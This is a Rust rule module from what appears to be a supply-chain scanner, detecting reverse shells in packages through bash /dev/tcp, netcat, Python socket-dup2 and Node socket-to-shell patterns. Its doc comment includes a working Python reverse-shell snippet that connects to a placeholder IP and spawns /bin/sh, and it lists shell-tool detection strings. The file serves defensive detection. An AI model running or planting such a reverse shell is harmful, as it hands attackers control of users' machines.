//! # SW-GEN-016: reverse shell
//!
//! **What it does.** Finds code that hands a shell to a remote host:
//! `bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo` pipes into `nc`,
//! a Python socket whose descriptors are `dup2`-ed onto a shell or
//! `pty.spawn`, and a Node `net` socket piped into a spawned shell.
//!
//! **Why is this bad.** It gives an attacker an interactive session on
//! the machine that installed the package. There is no legitimate reason
//! for a library to do it.
//!
//! **Example.**
//!
//! ```python
//! s = socket.socket(); s.connect(("203.0.113.9", 4444))
//! os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); pty.spawn("/bin/sh")
//! ```
//!
//! **False positives.** Remote-administration and pentest tools are
//! reverse shells by design; the rule still reports them.

use super::{Context, Emit, Rule, clip, is_spawn};
use crate::lang::callee_matches;
use crate::model::Severity;

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-016",
    title: "reverse shell",
    source: include_str!("gen016_reverse_shell.rs"),
    check,
};

const SHELL_FORMS: &[&str] = &["/dev/tcp/", "/dev/udp/", "nc -e", "ncat -e", "nc.traditional -e", "mkfifo /tmp/", "socat exec:", "sh -i 2>&1"];

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for command in cx.commands() {
        let lower = command.text.to_ascii_lowercase();
        if let Some(form) = SHELL_FORMS.iter().find(|f| lower.contains(*f)) {
            out.finding(
                Severity::Critical,
                command.stage,
                command.file,
                command.line,
                format!("opens a reverse shell (`{form}`): `{}`", clip(&command.text, 100)),
            );
        }
    }
    for (file, lit) in cx.strings() {
        if lit.value.contains("/dev/tcp/") && lit.value.contains("-i") {
            out.finding(
                Severity::Critical,
                lit.stage,
                &file.path,
                Some(lit.line),
                "builds a `bash -i >& /dev/tcp/…` reverse shell",
            );
        }
    }
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        // Python: socket + dup2 + a shell.
        let connect = facts.calls.iter().find(|c| c.callee.ends_with(".connect") || callee_matches(&c.callee, "socket.create_connection"));
        let dup2 = facts.calls.iter().find(|c| c.callee == "os.dup2");
        let shell = facts.calls.iter().find(|c| {
            c.callee == "pty.spawn"
                || (is_spawn(&c.callee) && c.strings.iter().any(|s| is_shell(s)))
        });
        if let (Some(_), Some(dup2), Some(shell)) = (connect, dup2, shell) {
            out.finding(
                Severity::Critical,
                shell.stage.min(dup2.stage),
                &file.path,
                Some(shell.line),
                format!("connects a socket to a shell (`os.dup2` and `{}`)", shell.callee),
            );
        }
        // Node: net socket piped into a spawned shell.
        let net = facts.calls.iter().find(|c| {
            callee_matches(&c.callee, "net.connect") || callee_matches(&c.callee, "net.createConnection") || c.callee == "net.Socket"
        });
        let spawned_shell = facts
            .calls
            .iter()
            .find(|c| callee_matches(&c.callee, "child_process.*") && c.strings.iter().any(|s| is_shell(s)));
        let piped = file.text.as_deref().is_some_and(|t| t.contains(".pipe("));
        if let (Some(_), Some(shell), true) = (net, spawned_shell, piped) {
            out.finding(
                Severity::Critical,
                shell.stage,
                &file.path,
                Some(shell.line),
                format!("pipes a network socket into a shell started with `{}`", shell.callee),
            );
        }
    }
}

fn is_shell(s: &str) -> bool {
    matches!(s.trim(), "/bin/sh" | "/bin/bash" | "sh" | "bash" | "cmd.exe" | "cmd" | "powershell" | "/bin/zsh" | "-i")
        || s.starts_with("/bin/sh -i")
        || s.starts_with("/bin/bash -i")
}
